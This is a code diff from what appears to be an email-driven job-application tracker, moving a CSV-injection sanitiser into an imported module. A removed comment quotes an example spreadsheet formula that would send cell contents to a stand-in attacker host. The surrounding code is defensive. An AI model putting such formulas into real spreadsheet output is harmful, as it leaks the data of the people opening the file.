@@ -24,7 +24,7 @@ from tracker.extraction import Extractor
 from tracker.memory_store import MemoryApplicationStore
 from tracker.models import EmailMessage, Extraction
 from tracker.recording import record_email
-from tracker.sheet_layout import HEADER, row_values
+from tracker.sheet_layout import HEADER, inert_in_a_spreadsheet, row_values
 from tracker.statuses import EARLIEST
 
 TRACK_USER = "local"
@@ -177,16 +177,6 @@ def write_output(store: MemoryApplicationStore, output: Path | None) -> None:
             handle.write(json.dumps(record, ensure_ascii=False) + "\n")
 
     write_atomically(output, write_jsonl)
-
-
-# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): a company named
-# =HYPERLINK("https://evil.example?"&A1) in an email would run when the CSV is opened.
-_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def inert_in_a_spreadsheet(cell: str) -> str:
-    """The cell, with a leading ' when a spreadsheet would read it as a formula (shown as text)."""
-    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
 
 
 def _email_reference(message_id: str | None) -> str:
